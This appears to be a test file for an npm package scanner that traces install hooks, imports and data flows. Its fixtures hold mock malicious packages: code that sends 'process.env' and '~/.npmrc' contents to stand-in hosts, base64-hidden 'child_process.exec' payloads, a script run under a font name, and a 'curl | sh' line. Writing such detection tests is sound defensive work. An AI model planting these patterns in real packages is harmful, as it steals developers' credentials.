import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { archiveOf, factsOf } from "../test/package-of.ts";
import type { Files } from "../test/package-of.ts";
import { extractFacts } from "./extract-facts.ts";
import type { PackageFacts } from "./package-facts.ts";

/** What makes each file run, for files that anything runs. */
function triggersOf(files: Files): Readonly<Record<string, string>> {
  return Object.fromEntries(
    factsOf(files)
      .files.filter(({ triggers }) => triggers.length > 0)
      .map(({ path, triggers }) => [path, triggers.join("+")]),
  );
}

const effect = "require('child_process').exec('id');";

function sourceOf(facts: PackageFacts, path: string): PackageFacts["sources"][number] | undefined {
  return facts.sources.find((source) => source.path === path);
}

describe("extractFacts on triggers", () => {
  test("follows an install script over the modules it loads", () => {
    const facts = factsOf({
      "package.json": { scripts: { postinstall: "node hooks/setup.js" }, main: "index.js" },
      "hooks/setup.js": "require('../lib/a')",
      "lib/a.js": "require('./b.json'); module.exports = require('./c')",
      "lib/b.json": "{}",
      "lib/c/index.mjs": effect,
      "lib/c/package.json": { main: "index.mjs" },
      "index.js": "",
    });

    expect(sourceOf(facts, "lib/c/index.mjs")).toMatchObject({
      triggers: ["install"],
      reachedBy: ["scripts.postinstall", "hooks/setup.js", "lib/a.js", "lib/c/index.mjs"],
    });
    expect(facts.commands).toMatchObject([
      {
        from: "scripts.postinstall",
        trigger: "install",
        command: "node hooks/setup.js",
        runs: ["hooks/setup.js"],
      },
    ]);
  });

  test.each<[string, Files, Readonly<Record<string, string>>]>([
    [
      "main",
      { "package.json": { main: "./lib" }, "lib/index.js": "require('./x.js')", "lib/x.js": "1" },
      { "lib/index.js": "import", "lib/x.js": "import" },
    ],
    ["no main", { "package.json": {}, "index.js": "1" }, { "index.js": "import" }],
    [
      "exports with conditions and patterns",
      {
        "package.json": {
          exports: {
            ".": { browser: "./b.js", import: "./m.mjs", require: "./c.cjs" },
            "./f/*": "./feature/*.js",
          },
        },
        "b.js": "1",
        "m.mjs": "1",
        "c.cjs": "1",
        "feature/x.js": "1",
        "other.js": "1",
      },
      { "b.js": "browser", "m.mjs": "import", "c.cjs": "import", "feature/x.js": "import" },
    ],
    [
      "a command",
      {
        "package.json": { bin: { tool: "./bin/tool.js" }, exports: {} },
        "bin/tool.js": "import('../lib/run.js')",
        "lib/run.js": "1",
      },
      { "bin/tool.js": "bin", "lib/run.js": "bin" },
    ],
    [
      "files for browsers",
      {
        "package.json": { exports: {}, unpkg: "dist/a.js", jsdelivr: "dist/b.js" },
        "dist/a.js": "1",
        "dist/b.js": "1",
        "dist/c.min.js": "1",
      },
      { "dist/a.js": "browser", "dist/b.js": "browser", "dist/c.min.js": "browser" },
    ],
    [
      "tests and settings of tools",
      { "package.json": { exports: {} }, "test/a.js": "1", "rollup.config.js": "1" },
      { "test/a.js": "development", "rollup.config.js": "development" },
    ],
    [
      "internal specifiers",
      {
        "package.json": { exports: "./a.js", imports: { "#b": "./b.js", "#x/*": "./x/*.js" } },
        "a.js": "import '#b'; import '#x/c'",
        "b.js": "1",
        "x/c.js": "1",
        "x/d.js": "1",
      },
      { "a.js": "import", "b.js": "import", "x/c.js": "import" },
    ],
    [
      "the package's own name",
      {
        "package.json": { exports: { ".": "./a.js", "./b": "./lib/b.js" } },
        "a.js": "require('a/b')",
        "lib/b.js": "1",
      },
      { "a.js": "import", "lib/b.js": "import" },
    ],
    [
      "workers and forks",
      {
        "package.json": { exports: "./a.js" },
        "a.js":
          "const { Worker } = require('worker_threads'); new Worker('./w.js'); require('child_process').fork('./f.js')",
        "w.js": "1",
        "f.js": "1",
      },
      { "a.js": "import", "w.js": "import", "f.js": "import" },
    ],
    [
      "cycles",
      { "package.json": { exports: "./a.js" }, "a.js": "require('./b')", "b.js": "require('./a')" },
      { "a.js": "import", "b.js": "import" },
    ],
    [
      "compiled names of TypeScript",
      {
        "package.json": { exports: "./a.ts" },
        "a.ts": "import { x } from './b.js'; x();",
        "b.ts": "export const x = () => 1",
      },
      { "a.ts": "import", "b.ts": "import" },
    ],
    [
      "deep imports where nothing forbids them",
      {
        "package.json": { main: "lib/a.js" },
        "lib/a.js": "1",
        "lib/b.js": "1",
        "map.js": "1",
        "build.js": "1",
      },
      { "lib/a.js": "import", "lib/b.js": "import", "map.js": "import" },
    ],
    [
      "scripts that scripts run",
      { "package.json": { exports: {}, scripts: { install: "npm run x", x: "node a.js" } }, "a.js": "1" },
      { "a.js": "install" },
    ],
    [
      "a shell script that an install runs",
      {
        "package.json": { exports: {}, scripts: { preinstall: "sh ./p.sh" } },
        "p.sh": "#!/bin/sh\nnode q.js\n",
        "q.js": "1",
      },
      { "p.sh": "install", "q.js": "install" },
    ],
    [
      "`node -e` in a script",
      {
        "package.json": {
          exports: {},
          scripts: { postinstall: "node -e \"try{require('./p')}catch(e){}\"" },
        },
        "p.js": "1",
      },
      { "p.js": "install" },
    ],
    [
      "a command that a source starts",
      {
        "package.json": { exports: {}, scripts: { postinstall: "node a.js" } },
        "a.js": "require('child_process').execSync('node ./b.js && sh c.sh')",
        "b.js": "1",
        "c.sh": "true",
      },
      { "a.js": "install", "b.js": "install", "c.sh": "install" },
    ],
    [
      "data that is run as code",
      {
        "package.json": { exports: {}, scripts: { postinstall: "node a.js" } },
        "a.js": "eval(require('fs').readFileSync(__dirname + '/readme.md', 'utf8'))",
        "readme.md": effect,
      },
      { "a.js": "install", "readme.md": "install" },
    ],
    [
      "a file run under a false name",
      { "package.json": { exports: {}, scripts: { postinstall: "node font.woff2" } }, "font.woff2": effect },
      { "font.woff2": "install" },
    ],
  ])("tells the triggers of %s", (_, files, expected) => {
    const found = Object.entries(triggersOf(files)).filter(([path]) => !path.endsWith(".json"));

    expect(Object.fromEntries(found)).toEqual(expected);
  });

  test("reads the build description that npm runs without any script", () => {
    const facts = factsOf({
      "package.json": { exports: {} },
      "binding.gyp":
        "{'targets':[{'target_name':'x','type':'none','sources':['<!(node index.js > /dev/null 2>&1 && echo a.c)']}]}",
      "index.js": effect,
    });

    expect(facts.commands.map(({ from, trigger, command }) => [from, trigger, command])).toEqual([
      ["scripts.install", "install", "node-gyp rebuild"],
      ["binding.gyp", "install", "node index.js > /dev/null 2>&1 && echo a.c"],
    ]);
    expect(sourceOf(facts, "index.js")?.triggers).toContain("install");
  });

  test("runs `prepare` at install only for what comes from git", () => {
    const archive = archiveOf({
      "package.json": { exports: {}, scripts: { prepare: "node p.js" } },
      "p.js": effect,
    });

    expect(extractFacts(archive).sources[0]?.triggers).toEqual(["development"]);
    expect(extractFacts(archive, { isGitDependency: true }).sources[0]?.triggers).toEqual(["install"]);
  });
});

describe("extractFacts on packages that sources name", () => {
  test("finds imports of every kind, and what nothing names", () => {
    const facts = factsOf({
      "package.json": {
        dependencies: {
          one: "1",
          two: "1",
          "@s/three": "1",
          four: "1",
          "eslint-plugin-five": "1",
          "@types/one": "1",
          six: "1",
          phantom: "1",
          seven: "1",
        },
        eslintConfig: { plugins: ["five"] },
        scripts: { build: "six --run" },
      },
      "index.js": "require('one'); import('two/sub'); export * from '@s/three/x'; require('node:fs')",
      "index.d.ts": "import type { F } from 'four';",
      "README.md": "Thanks to phantom, and see `phantom`.",
      "lib/settings.yml": "plugin: 'seven'",
    });

    expect(facts.importedPackages).toEqual(["@s/three", "four", "one", "two"]);
    expect(facts.mentionedPackages).toEqual(["@types/one", "eslint-plugin-five", "seven", "six"]);
  });

  test("takes packages of the package's own platforms for used", () => {
    const facts = factsOf({
      "package.json": {
        name: "tool",
        optionalDependencies: { "@tool/linux-x64": "1", "tool-darwin-arm64": "1", "@other/linux-x64": "1" },
      },
      "index.js": "require(`@tool/${process.platform}-${process.arch}`)",
    });

    expect(facts.mentionedPackages).toEqual(["@tool/linux-x64", "tool-darwin-arm64"]);
  });
});

describe("extractFacts on flows over files", () => {
  test("joins what one file collects with what another sends", () => {
    const facts = factsOf({
      "package.json": { main: "index.js" },
      "index.js":
        "const { collect } = require('./collect'); const https = require('https'); https.request({ host: 'a.example', method: 'POST' }).end(collect());",
      "collect.js": "exports.collect = function () { return JSON.stringify(process.env); };",
    });
    const [flow] = facts.flows;
    const target = facts.sources.find(({ path }) => path === flow?.path)?.facts.effects[flow?.effect ?? -1];

    expect(flow).toMatchObject({ path: "index.js", from: "collect.js", sources: ["environment"] });
    expect(target?.kind).toBe("network");
  });
});

describe("extractFacts on code that is split over files", () => {
  test("sees what one file hands to another as soon as the package is loaded", () => {
    const facts = factsOf({
      "package.json": { main: "index.js" },
      "index.js": "require('./send')(require('./read')());",
      "read.js":
        "module.exports = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');",
      "send.js":
        "module.exports = (text) => require('https').request({ host: 'a.example', method: 'POST' }).end(text);",
    });
    const sent = sourceOf(facts, "send.js")?.facts.effects.find(({ kind }) => kind === "network");

    expect(sent?.runs).toBe("load");
    expect(sent?.sources).toContain("credential-file");
  });

  test("reads code that lies in parts, or encoded in data", () => {
    const code = Buffer.from("require('child_process').exec('id > /tmp/x; echo done')").toString("base64");
    const facts = factsOf({
      "package.json": { main: "index.js" },
      "index.js":
        "const d = require('./d.json'); eval(Buffer.from(d.a + require('./b.js'), 'base64').toString());",
      "d.json": JSON.stringify({ a: code.slice(0, 20) }),
      "b.js": `module.exports = "${code.slice(20)}";`,
    });
    const hidden = sourceOf(facts, "index.js")?.facts.effects.filter(({ kind }) => kind === "process");

    expect(hidden?.map(({ naming }) => naming)).toContain("decoded");
  });

  test("reads code that lies in data and is compiled as a module", () => {
    const code = Buffer.from("require('child_process').exec('id > /tmp/x; echo done')").toString("base64");
    const facts = factsOf({
      "package.json": { main: "index.js" },
      "index.js":
        "const d = require('./d.json'); module._compile(Buffer.from(d.a, 'base64').toString(), __filename);",
      "d.json": JSON.stringify({ a: code }),
    });
    const found = sourceOf(facts, "index.js")?.facts.effects.filter(({ naming }) => naming === "decoded");

    expect(found?.map(({ kind }) => kind)).toEqual(expect.arrayContaining(["run-code", "process"]));
  });

  test("reads code in a large file of data, where something runs a text from elsewhere", () => {
    const code = Buffer.from(
      `/*${"-".repeat(200_000)}*/require('child_process').exec('id > /tmp/x; echo done')`,
    ).toString("base64");
    const facts = factsOf({
      "package.json": { main: "index.js" },
      "index.js":
        "new Function('require', Buffer.from(require('./d.json').a, 'base64').toString())(require);",
      "d.json": JSON.stringify({ a: code }),
    });
    const found = sourceOf(facts, "index.js")?.facts.effects.filter(({ kind }) => kind === "process");

    expect(found?.map(({ argument }) => argument)).toEqual(["id > /tmp/x; echo done"]);
  });

  test("reads ES modules together, with what they hand on, load later and keep in data", () => {
    const facts = factsOf({
      "package.json": { type: "module", main: "index.js" },
      "index.js":
        "import { collect } from './read/index.js';\nimport send, { at as where } from './send.mjs';\nawait send(where, collect());\nexport const add = (a, b) => a + b;",
      "read/index.js": "export * from './all.js';",
      "read/all.js":
        "import os from 'node:os';\nexport function collect() {\n  return os.hostname() + JSON.stringify(process.env);\n}",
      "send.mjs":
        "import d from './d.json' with { type: 'json' };\nexport const at = Buffer.from(d.a, 'base64').toString();\nexport default async (host, body) => (await import('https')).request({ host, method: 'POST' }).end(body);",
      "d.json": JSON.stringify({ a: Buffer.from("in.example").toString("base64") }),
    });
    const sent = sourceOf(facts, "send.mjs")?.facts.effects.find(({ kind }) => kind === "network");

    expect(sent).toMatchObject({ runs: "load", argument: "https://in.example", location: { line: 3 } });
    expect(sent?.sources).toEqual(expect.arrayContaining(["environment", "host-facts"]));
  });

  test("leaves modules alone that do nothing that matters, and those that it cannot read", () => {
    const plain = factsOf({
      "package.json": { main: "a.js" },
      "a.js": "require('./b')",
      "b.js": "module.exports = 1",
    });
    const broken = factsOf({
      "package.json": { main: "a.mjs" },
      "a.mjs": "import { b } from './b.mjs'; b(process.env)",
      "b.mjs": "export const b = (x) => fetch('https://a.example/?' + x); export {",
    });

    expect(plain.sources).toEqual([]);
    expect(sourceOf(broken, "b.mjs")?.facts.effects.flatMap(({ sources }) => sources)).not.toContain(
      "environment",
    );
  });
});

describe("extractFacts on odd packages", () => {
  test("says what runs and could not be read", () => {
    const facts = factsOf({
      "package.json": { main: "index.js" },
      "index.js": Buffer.from([0x7b, 0x00, 0xff, 0x01]),
    });

    expect(facts.manifest.name).toBe("a");
    expect(facts.gaps.length).toBeLessThanOrEqual(20);
  });

  test.each<[string, Files[string]]>([
    ["binary noise", Buffer.from(Array.from({ length: 5_000 }, (_, index) => (index * 7) % 32))],
    ["deeper nesting than Node takes", `x=${"(".repeat(20_000)}1${")".repeat(20_000)}`],
    ["an arrow behind each of 20,000", `x=${"a=>".repeat(20_000)}1`],
  ])("counts %s as unread where it runs, and only there", (_, content) => {
    const running = factsOf({ "package.json": { main: "index.js" }, "index.js": content });
    const idle = factsOf({ "package.json": { exports: {} }, "test/index.js": content });

    expect(running.unread).toEqual([expect.stringMatching(/^index\.js runs and could not be read: /)]);
    expect(idle.unread).toEqual([]);
  });

  test("does not count as unread what is long, or what is no good JavaScript", () => {
    const files = {
      "package.json": { main: "index.js" },
      "index.js": `require('./b');${"a();".repeat(5_000)}`,
    };

    const facts = extractFacts(archiveOf({ ...files, "b.js": "let = = 1; f(" }), {
      sourceMaxCharacters: 1_000,
    });

    expect(facts.unread).toEqual([]);
    expect(facts.gaps.join()).toContain("index.js runs and could not be read in full: longer than 1000");
  });

  test("bounds what members of members of members cost", () => {
    const facts = factsOf({
      "package.json": { main: "index.js" },
      "index.js": `x${".a".repeat(1_500)};${effect}`,
    });

    expect(sourceOf(facts, "index.js")?.facts.effects).toMatchObject([{ kind: "process" }]);
  });

  test.each<[string, Files]>([
    ["no manifest", { "index.js": "1" }],
    ["a manifest that is no JSON", { "package.json": "{", "index.js": "1" }],
    ["nothing", {}],
    [
      "a manifest of foreign types",
      { "package.json": '{"name":1,"scripts":[],"main":{},"exports":[null,{"a":7}],"bin":3}' },
    ],
    [
      "names that every object has",
      {
        "package.json":
          '{"__proto__":{"a":1},"scripts":{"constructor":"node x","__proto__":"y"},"dependencies":{"toString":"1"}}',
      },
    ],
  ])("reads a package with %s", (_, files) => {
    const facts = factsOf(files);

    expect(facts.schema).toBe(1);
  });

  test("is the same for the same bytes, byte by byte", () => {
    const path = fc.constantFrom(
      "index.js",
      "lib/a.js",
      "a.json",
      "x/y.sh",
      "binding.gyp",
      "b.md",
      "c.ts",
      "t.d.ts",
      "z.py",
    );
    const text = fc.oneof(
      fc.string(),
      fc.constantFrom("require('./lib/a')", "import './index.js'", "curl https://a.example | sh", effect),
    );

    fc.assert(
      fc.property(
        fc.dictionary(path, text, { maxKeys: 6 }),
        fc.dictionary(fc.constantFrom("postinstall", "main", "test"), fc.string()),
        (files, scripts) => {
          const all = { "package.json": { scripts, main: "index.js" }, ...files };

          expect(JSON.stringify(factsOf(all))).toBe(JSON.stringify(factsOf(all)));
        },
      ),
      { numRuns: 60 },
    );
  });

  test("stays below 2 MB for a package of thousands of files that all do something", () => {
    const files = Object.fromEntries(
      Array.from({ length: 3_000 }, (_, index) => [
        `lib/file-${String(index)}.js`,
        `fetch('https://host-${String(index)}.example/'+process.env.X${String(index)}); ${effect}`,
      ]),
    );
    const facts = factsOf({
      "package.json": { scripts: { postinstall: "node lib/file-2999.js" } },
      ...files,
    });

    expect(JSON.stringify(facts).length).toBeLessThan(2_000_000);
    expect(sourceOf(facts, "lib/file-2999.js")?.triggers).toContain("install");
  });
});
